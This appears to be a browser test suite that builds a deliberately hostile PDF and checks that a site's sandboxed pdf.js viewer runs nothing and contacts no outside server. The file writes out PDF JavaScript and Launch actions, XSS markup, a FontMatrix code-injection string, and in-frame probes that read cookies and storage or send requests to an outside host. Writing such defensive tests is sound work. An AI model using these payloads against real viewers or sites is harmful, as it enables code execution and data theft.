"""A PDF made to do harm, opened in the viewer: nothing of it runs, nothing is asked for, nothing of ours is reached."""

from __future__ import annotations

import io
import threading
from collections.abc import Iterator
from dataclasses import replace
from http.server import ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from playwright.sync_api import Browser, Page, expect
from site_world import World
from viewing import Quiet, needs_pdfjs, pdfjs, served

from holdfast.model import Record
from holdfast.site import Place, build

pytestmark = [pytest.mark.browser, needs_pdfjs]

RUN = "globalThis.hacked=1;try{parent.hacked=1}catch(e){};postMessage({hacked:1});console.log('hacked')"
MARKUP = f'<img src=x onerror="{RUN}"><script>{RUN}</script><svg onload="{RUN}">'


def lies(address: str) -> Dictionary:
    """A file that lies elsewhere, as a PDF names it."""
    return Dictionary(FS=Name.URL, F=String(address))


def action(kind: str, away: str) -> Dictionary:
    """What a PDF can ask a viewer to do. ``away`` is an address that must not be asked for."""
    script = f"{RUN};app.alert(1);this.submitForm('{away}/js');app.launchURL('{away}/launch');this.getURL('{away}/get')"
    return Dictionary({
        "javascript": {"/S": Name.JavaScript, "/JS": String(script)},
        "uri": {"/S": Name.URI, "/URI": String(f"{away}/uri")},
        "uri-script": {"/S": Name.URI, "/URI": String(f"javascript:{RUN}")},
        "uri-data": {"/S": Name.URI, "/URI": String(f"data:text/html,<script>{RUN}</script>")},
        "remote": {"/S": Name.GoToR, "/F": lies(f"{away}/remote.pdf"), "/D": Array([0, Name.Fit])},
        "launch": {"/S": Name.Launch, "/F": String(f"{away}/calc.exe"), "/NewWindow": True},
        "submit": {"/S": Name.SubmitForm, "/F": lies(f"{away}/form"), "/Flags": 4},
        "import": {"/S": Name.ImportData, "/F": String(f"{away}/data.fdf")},
        "named": {"/S": Name.Named, "/N": Name.Print},
    }[kind])  # fmt: skip


KINDS = ("javascript", "uri", "uri-script", "uri-data", "remote", "launch", "submit", "import", "named")


def hostile(opening: str, away: str) -> bytes:
    """A PDF that tries everything, and ``opening`` as soon as it is opened."""
    pdf = Pdf.new()
    page = pdf.add_blank_page(page_size=(600, 800))
    root = pdf.Root
    root.OpenAction = action(opening, away)
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action("javascript", away)])))
    root.AA = Dictionary(WC=action("javascript", away), DP=action("javascript", away))
    page.AA = Dictionary(O=action("javascript", away), C=action("uri", away))
    pdf.docinfo["/Title"] = String(MARKUP)
    _annotate(pdf, page, away)
    _draw(pdf, page, away)
    xfa = (
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
        f'<subform><event activity="initialize"><script contentType="application/x-javascript">{RUN}</script></event>'
        f'<field><value><image href="{away}/xfa.png"/></value></field></subform></template></xdp:xdp>'
    )
    root.AcroForm.XFA = pdf.make_stream(xfa.encode())
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def _annotate(pdf: Pdf, page: pikepdf.Page, away: str) -> None:
    """Links, buttons, fields and notes, each with an action or with markup in its words."""
    found, fields = [], []
    for number, kind in enumerate(KINDS):
        place = Array([20, 700 - 30 * number, 120, 720 - 30 * number])
        found.append(
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=place, A=action(kind, away), Contents=String(MARKUP))
        )
        button = pdf.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String(f"b{number}"), F=4,
            Rect=Array([140, 700 - 30 * number, 240, 720 - 30 * number]), A=action(kind, away),
            AA=Dictionary(E=action(kind, away), U=action(kind, away), PO=action(kind, away)),
            MK=Dictionary(CA=String(MARKUP)),
        ))  # fmt: skip
        fields.append(button)
    text = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String(MARKUP), V=String(MARKUP), DV=String(MARKUP), F=4,
        Rect=Array([260, 600, 400, 640]), DA=String("/F 10 Tf"), TU=String(MARKUP),
        AA=Dictionary(K=action("javascript", away), C=action("javascript", away), F=action("javascript", away)),
    ))  # fmt: skip
    fields.append(text)
    rich = f'<body xmlns="http://www.w3.org/1999/xhtml"><p style="background:url({away}/rich.png)">{MARKUP}</p></body>'
    found.append(Dictionary(
        Type=Name.Annot, Subtype=Name.FreeText, Rect=Array([260, 500, 400, 560]), Contents=String(MARKUP),
        RC=String(rich), DA=String("/F 10 Tf"), DS=String(f"background:url({away}/style.png)"), Open=True,
    ))  # fmt: skip
    found.append(Dictionary(
        Type=Name.Annot, Subtype=Name.Text, Rect=Array([260, 400, 280, 420]), Contents=String(MARKUP), T=String(MARKUP),
        RC=String(rich), Open=True,
    ))  # fmt: skip
    screen = Dictionary(S=Name.Rendition, OP=0, JS=String(RUN), R=Dictionary(S=Name.MR, C=Dictionary(
        S=Name.MCD, CT=String("video/mp4"), D=lies(f"{away}/film.mp4"),
    )))  # fmt: skip
    found.append(Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([260, 300, 400, 380]), A=screen))
    page.Annots = Array([*[pdf.make_indirect(one) for one in found], *fields])
    pdf.Root.AcroForm = Dictionary(Fields=Array(fields), NeedAppearances=True, CO=Array([text]))


def _draw(pdf: Pdf, page: pikepdf.Page, away: str) -> None:
    """Words in a font whose matrix ends a statement, a function that is no function, a picture that lies elsewhere."""
    program = Stream(pdf, pdfjs()["standard_fonts/FoxitSerif.pfb"])
    program.Subtype = Name.Type1C
    descriptor = Dictionary(
        Type=Name.FontDescriptor, FontName=Name("/Trap"), Flags=4, FontBBox=Array([0, 0, 1000, 1000]), ItalicAngle=0,
        Ascent=900, Descent=-200, CapHeight=700, StemV=80, FontFile3=program,
    )  # fmt: skip
    trap = Dictionary(
        Type=Name.Font, Subtype=Name.Type1, BaseFont=Name("/Trap"), FontDescriptor=descriptor, FirstChar=32,
        LastChar=126, Widths=Array([600] * 95), FontMatrix=Array([1, 2, 3, 4, 5, String(f"1);{RUN}//")]),
    )  # fmt: skip
    plain = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    function = Stream(pdf, b"{ 1 0 div exch pop dup }")
    function.FunctionType, function.Domain, function.Range = (
        4,
        Array([0, String(f"1);{RUN}//")]),
        Array([0, 1, 0, 1, 0, 1]),
    )
    shading = Dictionary(ShadingType=2, ColorSpace=Name.DeviceRGB, Coords=Array([0, 0, 600, 0]), Function=function)
    pattern = Dictionary(Type=Name.Pattern, PatternType=2, Shading=shading, Matrix=Array([1, 0, 0, 1, 0, String(RUN)]))
    elsewhere = Stream(pdf, b"")
    elsewhere.Type, elsewhere.Subtype, elsewhere.Width, elsewhere.Height = Name.XObject, Name.Image, 9, 9
    elsewhere.ColorSpace, elsewhere.BitsPerComponent = Name.DeviceGray, 8
    elsewhere.F = lies(f"{away}/picture.png")
    page.Resources = Dictionary(
        Font=Dictionary(F=plain, T=trap), Shading=Dictionary(S=shading), Pattern=Dictionary(P=pattern),
        XObject=Dictionary(I=elsewhere),
    )  # fmt: skip
    page.Contents = pdf.make_stream(
        b"BT /F 20 Tf 40 750 Td (HOSTILE WORDS) Tj ET\nBT /T 20 Tf 40 60 Td (TRAP) Tj ET\n"
        b"q 90 0 0 90 300 60 cm /I Do Q\n/Pattern cs /P scn 400 60 100 100 re f\nq 10 10 100 20 re W n /S sh Q\n"
    )


class Elsewhere(ThreadingHTTPServer):
    """Another server, which would answer; it remembers what it was asked. (A connection alone is no question: browsers
    make some ahead of time.)"""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Listening(Quiet):
            def parse_request(self) -> bool:
                asked.append(str(self.raw_requestline))
                return super().parse_request()

        super().__init__(("127.0.0.1", 0), Listening)


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    with Elsewhere() as server:
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture(scope="module")
def away(elsewhere: Elsewhere) -> str:
    return f"http://127.0.0.1:{elsewhere.server_address[1]}"


@pytest.fixture(scope="module")
def home(theme: Path, tmp_path_factory: pytest.TempPathFactory, away: str) -> Iterator[str]:
    """A site with the viewer and two hostile PDFs."""
    world = World(tmp_path_factory.mktemp("world"))
    for opening in ("javascript", "remote"):
        held = world.capture(opening, hostile(opening, away))
        world.text(held, ["HOSTILE WORDS"])
        world.add(Record(opening, "A trap", "guidance"), captures=(held,))
    build(replace(world.inputs(), viewer=pdfjs()), Place(theme, world.folder / "site"))
    with served(world.folder / "site") as address:
        yield address


class Watched:
    """A page of a browser, and everything that happened in it."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.asked: list[str] = []
        self.told: list[str] = []
        context = page.context
        context.on("request", lambda request: self.asked.append(request.url))
        context.on("page", lambda other: self.told.append(f"window {other.url}"))
        page.on("dialog", lambda dialog: (self.told.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("download", lambda download: self.told.append(f"download {download.url}"))
        page.on("console", lambda line: self.told.append(line.text) if "hacked" in line.text else None)
        page.add_init_script("addEventListener('message', ({data}) => { if (data?.hacked) globalThis.hacked = 1; })")

    def harmless(self, home: str) -> None:
        """Nothing ran, nothing was asked for elsewhere, nobody went anywhere."""
        assert self.told == []
        for frame in self.page.frames:
            assert frame.evaluate("globalThis.hacked === undefined"), frame.url
        assert self.page.url.startswith(home) and len(self.page.context.pages) == 1
        assert [urlsplit(frame.url).path for frame in self.page.frames[1:]] == ["/viewer/index.html"]


@pytest.fixture
def watched(browser: Browser) -> Iterator[Watched]:
    context = browser.new_context(accept_downloads=True)
    yield Watched(context.new_page())
    context.close()


@pytest.mark.parametrize("opening", ["javascript", pytest.param("remote", marks=pytest.mark.soak)])
def test_a_hostile_pdf_is_shown_and_does_nothing(
    watched: Watched, home: str, elsewhere: Elsewhere, opening: str
) -> None:
    page = watched.page
    page.goto(f"{home}/records/{opening}.html#page=1")
    inside = page.frame_locator(".hf-viewer__frame")
    expect(inside.locator(".textLayer").get_by_text("HOSTILE WORDS")).to_be_attached()
    annotations = inside.locator(".annotationLayer section")
    expect(annotations.first).to_be_attached()
    assert annotations.count() > len(KINDS), "its links and buttons are there to be pressed"
    frame = page.frames[1]
    pressed = frame.evaluate(
        """() => {
            const all = [...document.querySelectorAll(".annotationLayer :is(a, button, input, textarea, section)")];
            for (const one of all) for (const kind of ["mouseenter", "mousedown", "focus", "mouseup", "click", "blur"])
                kind === "click" ? one.click() : one.dispatchEvent(new MouseEvent(kind, { bubbles: true }));
            return all.length;
        }"""
    )
    assert pressed > len(KINDS)
    assert frame.evaluate("document.querySelectorAll('#viewer :is(script, iframe, object, embed, form)').length") == 0
    page.wait_for_timeout(300)
    watched.harmless(home)
    assert all(url.startswith((home, "blob:", "data:")) for url in watched.asked), "not even tried"
    assert elsewhere.asked == []


SPIES = {
    "storage": "localStorage.setItem('hacked', 1)",
    "session": "sessionStorage.length",
    "cookies": "document.cookie",
    "database": "await said(indexedDB.open('x'), 'success')",
    "caches": "await caches.open('x')",
    "worker of the origin": "await navigator.serviceWorker.register('index.html')",
    "page around it": "parent.document.body.innerHTML",
    "its address": "parent.location.href",
    "window": "if (!window.open('AWAY/window')) throw new Error('refused')",
    "fetch": "await fetch('AWAY/fetch')",
    "fetch at home": "await fetch('../records/remote.html')",
    "request": "const x = new XMLHttpRequest(); x.open('GET', 'AWAY/xhr'); x.send(); await said(x, 'load')",
    "picture": "const i = new Image(); i.src = 'AWAY/i.png'; await said(i, 'load')",
    "socket": "await said(new WebSocket('AWAY/'.replace('http', 'ws')), 'open')",
    "beacon": "navigator.sendBeacon('AWAY/beacon'); await pause(); throw new Error('see who connects')",
    "words as code": "await pause(); new Function('1')",
}  # fmt: skip
HELP = """
    const pause = () => new Promise((yes) => setTimeout(yes, 100));
    const said = (one, event) => new Promise((yes, no) => {
        one.addEventListener(event, yes);
        one.addEventListener('error', no);
    });
"""


def test_even_a_script_inside_the_frame_would_reach_nothing(
    watched: Watched, home: str, away: str, elsewhere: Elsewhere
) -> None:
    """As if a flaw of pdf.js had let one in."""
    page = watched.page
    page.goto(f"{home}/records/remote.html#page=1")
    expect(page.frame_locator(".hf-viewer__frame").locator(".textLayer").get_by_text("HOSTILE")).to_be_attached()
    frame = page.frames[1]
    for name, act in SPIES.items():
        tried = f"try {{ {act.replace('AWAY', away)}; return 'reached'; }} catch {{ return 'refused'; }}"
        assert frame.evaluate(f"async () => {{ {HELP} {tried} }}") == "refused", name
    frame.evaluate(f"() => {{ try {{ top.location = '{away}/top' }} catch {{}} }}")
    form = f"const f = document.createElement('form'); f.action = '{away}/form'; document.body.append(f); f.submit()"
    frame.evaluate(f"() => {{ {form} }}")
    page.wait_for_timeout(200)
    watched.harmless(home)
    frame.evaluate(f"() => {{ location = '{away}/itself' }}")  # a frame may leave its own page, but not for elsewhere
    page.wait_for_timeout(300)
    assert page.evaluate("[localStorage.hacked, document.cookie, globalThis.hacked]") == [None, "", None]
    assert elsewhere.asked == []
    page.context.request.get(f"{away}/")
    assert len(elsewhere.asked) == 1, "it does listen"
